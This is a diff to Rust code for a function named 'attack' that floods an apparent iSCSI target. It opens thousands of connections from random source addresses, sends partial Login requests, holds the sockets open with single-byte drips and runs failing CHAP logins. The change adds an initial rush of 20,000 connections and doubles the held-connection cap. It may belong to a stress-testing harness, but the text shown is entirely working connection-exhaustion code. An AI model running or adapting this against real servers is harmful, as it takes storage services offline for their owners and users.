@@ -21,8 +21,10 @@ const TICK: Duration = Duration::from_millis(10);
 const KNOCKS: usize = 10;
 const DRIPS: usize = 20;
 const GUESSES: usize = 1;
-/// Connections that are kept, also when the target has closed them.
-const HELD_MAX: usize = 6000;
+/// So many knock at first, one after the other as fast as they can.
+const RUSH: usize = 20_000;
+/// Connections that are kept, also when the target has closed them; the oldest of them it closed long ago.
+const HELD_MAX: usize = 12_000;
 const GUESSING_MAX: usize = 1500;
 /// What a login begins with: an immediate Login request that asks for the security stage.
 const LOGIN: [u8; 4] = [0x43, 0x00, 0x00, 0x00];
@@ -69,8 +71,9 @@ fn attack(unit: &Unit, over: &AtomicBool) -> Result<Harm> {
     let (mut held, mut guessing): (VecDeque<TcpStream>, VecDeque<Client>) = Default::default();
     let wrong = Credential { name: "guarded".into(), secret: Secret::new(SECRET.to_uppercase())? };
     let wrong = InitiatorAuth::chap(wrong, None, Algorithm::Md5)?;
+    let mut knocks = RUSH;
     while !over.load(Ordering::Relaxed) {
-        for _ in 0..KNOCKS {
+        for _ in 0..knocks {
             let caller = Caller { from: Some(anywhere(&mut random)), ..Caller::default() };
             harm.knocks += 1;
             match caller.connect(unit.portal) {
@@ -78,10 +81,12 @@ fn attack(unit: &Unit, over: &AtomicBool) -> Result<Harm> {
                     // The target may have closed it again.
                     let _ = socket.write(&LOGIN);
                     held.push_back(socket);
+                    held.drain(..held.len().saturating_sub(HELD_MAX));
                 }
                 Err(_) => harm.refused += 1,
             }
         }
+        knocks = KNOCKS;
         for _ in 0..DRIPS.min(held.len()) {
             let at = usize::try_from(random.below(held.len() as u64))?;
             harm.drips += u64::from(held[at].write(&[0]).is_ok());
@@ -95,7 +100,6 @@ fn attack(unit: &Unit, over: &AtomicBool) -> Result<Harm> {
         }
         // Whoever is told no is gone; the others wait for their answer.
         guessing.retain_mut(|client| client.turn(Duration::ZERO).is_ok() && !client.is_over());
-        held.drain(..held.len().saturating_sub(HELD_MAX));
         guessing.drain(..guessing.len().saturating_sub(GUESSING_MAX));
         thread::sleep(TICK);
     }
